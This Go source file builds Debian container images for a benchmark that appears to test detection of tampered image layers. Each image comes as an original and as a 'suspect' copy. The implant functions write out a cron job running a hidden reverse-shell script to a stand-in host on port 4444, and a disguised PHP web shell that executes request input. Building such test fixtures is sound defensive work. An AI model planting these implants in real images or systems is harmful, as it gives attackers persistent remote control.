package imagebuild

import (
	"archive/tar"
	"crypto/sha256"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path"
	"path/filepath"
	"sort"
	"strings"
	"time"
)

// DebianStage is one layer of the real Debian benchmark image: the packages one install step
// adds on top of the stages before it.
type DebianStage struct {
	Packages  []string
	CreatedBy string
}

// DebianStages are the steps of the real Debian benchmark image: bookworm minbase, then
// successive apt-get installs, each one layer, as a Dockerfile with five steps would make them
// (about 900 MB and 40,000 files in all).
var DebianStages = []DebianStage{
	{[]string{"ca-certificates"}, "/bin/sh -c #(nop) ADD file:mmdebstrap-bookworm-minbase in / "},
	{[]string{"python3", "perl"}, "RUN /bin/sh -c apt-get install -y python3 perl # buildkit"},
	{[]string{"git", "gcc", "make", "libc6-dev"}, "RUN /bin/sh -c apt-get install -y git gcc make libc6-dev # buildkit"},
	{[]string{"openssh-server", "nginx"}, "RUN /bin/sh -c apt-get install -y openssh-server nginx # buildkit"},
	{[]string{"nodejs", "npm"}, "RUN /bin/sh -c apt-get install -y nodejs npm # buildkit"},
}

// ErrNoDebian says the real Debian image cannot be built here: mmdebstrap is missing or could
// not reach Debian's mirror.
var ErrNoDebian = errors.New("the real Debian image needs mmdebstrap and Debian's mirror")

// DebianImplant is the small extra layer of the suspect copy of the Debian image: a cron job
// that opens a reverse shell and the script it runs.
func DebianImplant() Layer {
	return Layer{CreatedBy: "RUN /bin/sh -c install -m 0755 /tmp/sync /usr/local/bin/.sync # buildkit", Files: []File{
		Dir("etc"), Dir("etc/cron.d"),
		Reg("etc/cron.d/apt-sync", "*/5 * * * * root /usr/local/bin/.sync >/dev/null 2>&1\n").WithMode(0o644),
		Dir("usr"), Dir("usr/local"), Dir("usr/local/bin"),
		Reg("usr/local/bin/.sync", "#!/bin/sh\nH=203.0.113.45\nP=4444\nbash -i >& /dev/tcp/$H/$P 0>&1\n").WithMode(0o755),
	}}
}

// CachedDebian returns the OCI layouts of the real Debian benchmark image (DebianStages, one
// gzip layer each) and of a suspect copy with DebianImplant as a sixth layer, building them
// once under dir with mmdebstrap. It returns ErrNoDebian (wrapped) when they cannot be built.
func CachedDebian(dir string) (original, suspect string, err error) {
	return cachedDebian(filepath.Join(dir, "debian-5L"), "strata-bench/debian", DebianStages, DebianImplant())
}

// DebianWebStages are the steps of the real Debian web benchmark image: what a web server
// image holds, mostly small source files read as pages and scripts (PHP applications and
// libraries, Python and Node.js frameworks) rather than compiled packages.
var DebianWebStages = []DebianStage{
	{[]string{"ca-certificates"}, "/bin/sh -c #(nop) ADD file:mmdebstrap-bookworm-minbase in / "},
	{[]string{"apache2", "libapache2-mod-php", "php-mysql", "php-gd", "php-curl", "php-xml", "php-mbstring", "php-intl"},
		"RUN /bin/sh -c apt-get install -y apache2 libapache2-mod-php php-mysql php-gd php-curl php-xml php-mbstring php-intl # buildkit"},
	{[]string{"wordpress", "php-tcpdf", "php-phpseclib"}, "RUN /bin/sh -c apt-get install -y wordpress php-tcpdf php-phpseclib # buildkit"},
	{[]string{"phpmyadmin", "dokuwiki"}, "RUN /bin/sh -c apt-get install -y phpmyadmin dokuwiki # buildkit"},
	{[]string{"python3-django", "python3-flask", "nodejs", "node-express"}, "RUN /bin/sh -c apt-get install -y python3-django python3-flask nodejs node-express # buildkit"},
}

// DebianWebImplant is the small extra layer of the suspect copy of the Debian web image: a
// page in the web root that runs what the request names.
func DebianWebImplant() Layer {
	return Layer{CreatedBy: "RUN /bin/sh -c cp /tmp/x.php /var/www/html/wp-cache.php # buildkit", Files: []File{
		Dir("var"), Dir("var/www"), Dir("var/www/html"),
		Reg("var/www/html/wp-cache.php", "<?php\n$k = 'c';\n$v = $_REQUEST[$k];\nif ($v) { echo shell_exec($v); }\n").WithMode(0o644),
	}}
}

// CachedDebianWeb is CachedDebian for the web image: DebianWebStages and DebianWebImplant.
func CachedDebianWeb(dir string) (original, suspect string, err error) {
	return cachedDebian(filepath.Join(dir, "debian-web-5L"), "strata-bench/debian-web", DebianWebStages, DebianWebImplant())
}

// cachedDebian builds (once, under base) an image of stages and its suspect copy with implant
// as one more layer.
func cachedDebian(base, repo string, stageList []DebianStage, implant Layer) (original, suspect string, err error) {
	original, suspect = filepath.Join(base, "original"), filepath.Join(base, "suspect")
	if _, err := os.Stat(filepath.Join(suspect, "index.json")); err == nil {
		return original, suspect, nil
	}
	if _, err := exec.LookPath("mmdebstrap"); err != nil {
		return "", "", fmt.Errorf("%w: mmdebstrap is not installed", ErrNoDebian)
	}
	work := filepath.Join(base, "work")
	if err := os.MkdirAll(work, 0o755); err != nil {
		return "", "", err
	}
	defer os.RemoveAll(work)
	stages, err := debianStages(work, stageList)
	if err != nil {
		return "", "", err
	}
	// Built now, from packages as Debian serves them now: dated like a real build, after every
	// file it holds.
	built := time.Now().UTC().Truncate(time.Second)
	layers := make([]Layer, len(stages))
	for i := range stages {
		prev := ""
		if i > 0 {
			prev = stages[i-1]
		}
		raw, err := layerDiff(prev, stages[i], mmdebstrapArtifact)
		if err != nil {
			return "", "", fmt.Errorf("making layer %d: %w", i, err)
		}
		layers[i] = Layer{Raw: raw, Compression: Gzip, CreatedBy: stageList[i].CreatedBy,
			Created: built.Add(time.Duration(i-len(stages)) * time.Minute)}
	}
	for _, name := range []string{"original", "suspect"} {
		img := Image{Tags: []string{repo + ":" + name}, Created: built,
			Config: Config{Env: []string{"PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"}, Cmd: []string{"bash"}},
			Layers: layers}
		if name == "suspect" {
			implant.Created = built.Add(time.Hour)
			img.Created = implant.Created
			img.Layers = append(append([]Layer(nil), layers...), implant)
		}
		blobs := filepath.Join(work, "blobs-"+name)
		if err := os.MkdirAll(blobs, 0o755); err != nil {
			return "", "", err
		}
		built, err := BuildTo(img, blobs)
		if err != nil {
			return "", "", err
		}
		out := filepath.Join(base, name)
		os.RemoveAll(out + ".tmp")
		if err := WriteOCILayout(out+".tmp", built); err != nil {
			return "", "", err
		}
		os.RemoveAll(out)
		if err := os.Rename(out+".tmp", out); err != nil {
			return "", "", err
		}
	}
	return original, suspect, nil
}

// debianStages runs mmdebstrap once, installing stageList one after the other in the chroot,
// and returns a tar of the root filesystem after each stage.
func debianStages(work string, stageList []DebianStage) ([]string, error) {
	var args []string
	var pkgs []string
	var out []string
	for i, st := range stageList {
		tarPath := filepath.Join(work, fmt.Sprintf("stage%d.tar", i+1))
		out = append(out, tarPath)
		if i == 0 {
			pkgs = st.Packages
		} else {
			args = append(args, "--customize-hook=chroot \"$1\" sh -c 'DEBIAN_FRONTEND=noninteractive apt-get install -y -q "+
				strings.Join(st.Packages, " ")+" >/dev/null 2>&1'")
		}
		// The hooks run with /proc, /sys and /dev mounted and downloaded packages cached: none
		// of that is part of an image.
		args = append(args, "--customize-hook=tar --numeric-owner --one-file-system --exclude=./proc/* --exclude=./sys/* "+
			"--exclude=./dev/* --exclude=./var/cache/apt/archives/*.deb --exclude=./var/cache/apt/*.bin -C \"$1\" -cf "+tarPath+" .")
	}
	args = append([]string{"--variant=minbase", "--include=" + strings.Join(pkgs, ",")}, args...)
	args = append(args, "bookworm", "/dev/null")
	cmd := exec.Command("mmdebstrap", args...)
	if b, err := cmd.CombinedOutput(); err != nil {
		tail := string(b)
		if len(tail) > 2000 {
			tail = tail[len(tail)-2000:]
		}
		return nil, fmt.Errorf("%w: mmdebstrap: %v\n%s", ErrNoDebian, err, tail)
	}
	return out, nil
}

// tarKey is what a tar entry is, for telling whether a stage changed it.
type tarKey struct {
	typ          byte
	mode         int64
	uid, gid     int
	size         int64
	link         string
	mtime        int64
	sum          [32]byte
	major, minor int64
}

func keyOf(h *tar.Header, r io.Reader) (tarKey, error) {
	k := tarKey{typ: h.Typeflag, mode: h.Mode, uid: h.Uid, gid: h.Gid, size: h.Size, link: h.Linkname,
		mtime: h.ModTime.Unix(), major: h.Devmajor, minor: h.Devminor}
	if h.Typeflag == tar.TypeReg {
		s := sha256.New()
		if _, err := io.Copy(s, r); err != nil {
			return k, err
		}
		copy(k.sum[:], s.Sum(nil))
	}
	return k, nil
}

func entryName(name string) string { return strings.TrimPrefix(path.Clean("/"+name), "/") }

// mmdebstrapArtifact renames what mmdebstrap keeps in place only while its hooks run: the
// policy-rc.d that stops daemons from starting (dropped) and the real start-stop-daemon, moved
// aside for a stub (put back). keep is false for entries to drop.
func mmdebstrapArtifact(name string) (string, bool) {
	switch name {
	case "usr/sbin/policy-rc.d", "usr/sbin/start-stop-daemon", "sbin/start-stop-daemon":
		return name, false
	case "usr/sbin/start-stop-daemon.REAL", "sbin/start-stop-daemon.REAL":
		return strings.TrimSuffix(name, ".REAL"), true
	}
	return name, true
}

// LayerDiff returns the layer that turns the root filesystem in the tar lower ("" for none)
// into the one in upper, as a container builder commits it: every entry that is new or
// changed, the targets of hard links it holds, and a whiteout for each removed path whose
// parent is still there.
func LayerDiff(lower, upper string) ([]byte, error) {
	return layerDiff(lower, upper, func(name string) (string, bool) { return name, true })
}

// layerDiff is LayerDiff with the entries of both tars renamed or dropped by rename.
func layerDiff(lower, upper string, rename func(string) (string, bool)) ([]byte, error) {
	eachEntry := func(p string, fn func(h *tar.Header, r io.Reader) error) error {
		return eachEntry(p, func(h *tar.Header, r io.Reader) error {
			name, keep := rename(entryName(h.Name))
			if !keep {
				return nil
			}
			h.Name = "./" + name
			return fn(h, r)
		})
	}
	prev := map[string]tarKey{}
	if lower != "" {
		if err := eachEntry(lower, func(h *tar.Header, r io.Reader) error {
			k, err := keyOf(h, r)
			prev[entryName(h.Name)] = k
			return err
		}); err != nil {
			return nil, err
		}
	}
	// First pass: which entries the layer holds, and which hard link targets they need.
	keep := map[string]bool{}
	seen := map[string]bool{}
	if err := eachEntry(upper, func(h *tar.Header, r io.Reader) error {
		name := entryName(h.Name)
		seen[name] = true
		k, err := keyOf(h, r)
		if err != nil {
			return err
		}
		if old, ok := prev[name]; !ok || old != k {
			keep[name] = true
			if h.Typeflag == tar.TypeLink {
				keep[entryName(h.Linkname)] = true
			}
		}
		return nil
	}); err != nil {
		return nil, err
	}
	var b bytesBuffer
	tw := tar.NewWriter(&b)
	if err := eachEntry(upper, func(h *tar.Header, r io.Reader) error {
		if !keep[entryName(h.Name)] {
			return nil
		}
		if err := tw.WriteHeader(h); err != nil {
			return err
		}
		_, err := io.Copy(tw, r)
		return err
	}); err != nil {
		return nil, err
	}
	var gone []string
	for name := range prev {
		if !seen[name] && name != "" && seen[path.Dir(name)] || !seen[name] && path.Dir(name) == "." {
			gone = append(gone, name)
		}
	}
	sort.Strings(gone)
	for _, name := range gone {
		wh := path.Join(path.Dir(name), ".wh."+path.Base(name))
		if err := tw.WriteHeader(&tar.Header{Name: wh, Typeflag: tar.TypeReg, Mode: 0o644, ModTime: time.Unix(0, 0)}); err != nil {
			return nil, err
		}
	}
	if err := tw.Close(); err != nil {
		return nil, err
	}
	return b.Bytes(), nil
}

func eachEntry(p string, fn func(h *tar.Header, r io.Reader) error) error {
	f, err := os.Open(p)
	if err != nil {
		return err
	}
	defer f.Close()
	tr := tar.NewReader(f)
	for {
		h, err := tr.Next()
		if err == io.EOF {
			return nil
		}
		if err != nil {
			return fmt.Errorf("%s: %w", p, err)
		}
		if entryName(h.Name) == "" {
			continue
		}
		if err := fn(h, tr); err != nil {
			return fmt.Errorf("%s: %s: %w", p, h.Name, err)
		}
	}
}

// bytesBuffer is a growing byte slice writer (bytes.Buffer without the reading half).
type bytesBuffer struct{ b []byte }

func (w *bytesBuffer) Write(p []byte) (int, error) { w.b = append(w.b, p...); return len(p), nil }
func (w *bytesBuffer) Bytes() []byte               { return w.b }

// LayoutBlobs returns the paths of the layer blobs of the only image in an OCI layout, in
// manifest order, for Floor.
func LayoutBlobs(layout string) ([]string, error) {
	var index struct {
		Manifests []struct{ Digest string } `json:"manifests"`
	}
	var manifest struct {
		Layers []struct{ Digest string } `json:"layers"`
	}
	blob := func(d string) string {
		return filepath.Join(layout, "blobs", "sha256", strings.TrimPrefix(d, "sha256:"))
	}
	data, err := os.ReadFile(filepath.Join(layout, "index.json"))
	if err != nil {
		return nil, err
	}
	if err := json.Unmarshal(data, &index); err != nil || len(index.Manifests) != 1 {
		return nil, fmt.Errorf("%s: want one image in index.json (%v)", layout, err)
	}
	if data, err = os.ReadFile(blob(index.Manifests[0].Digest)); err != nil {
		return nil, err
	}
	if err := json.Unmarshal(data, &manifest); err != nil {
		return nil, fmt.Errorf("%s: manifest: %w", layout, err)
	}
	var out []string
	for _, l := range manifest.Layers {
		out = append(out, blob(l.Digest))
	}
	return out, nil
}
